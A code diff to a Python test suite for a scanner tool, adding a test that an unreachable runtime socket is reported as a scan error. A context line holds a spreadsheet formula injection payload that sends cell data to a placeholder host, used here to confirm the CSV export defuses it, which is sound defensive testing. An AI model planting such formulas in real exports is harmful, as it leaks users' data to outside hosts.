@@ -304,3 +304,10 @@ def test_csv_cells_from_scanned_files_never_run_as_spreadsheet_formulas(tmp_path
     rows = list(csv.reader(io.StringIO(run_cli("scan", "--home", str(home), "--format", "csv").stdout)))
     assert rows[1][4] == '\'=HYPERLINK("http://x.example/?"&A1,"ok")'
     assert rows[1][8] == "@scope/mcp", "a scoped npm name stays as it is"
+
+
+def test_a_named_engine_that_does_not_answer_is_a_scan_error(tmp_path: Path) -> None:
+    missing = f"unix://{tmp_path / 'no-engine.sock'}"
+    report = json.loads(run_cli("scan", "--format", "json", "--no-processes", "--runtime-socket", missing).stdout)
+    assert [e["path"] for e in report["errors"]] == [missing]
+    assert "cannot connect" in report["errors"][0]["message"]
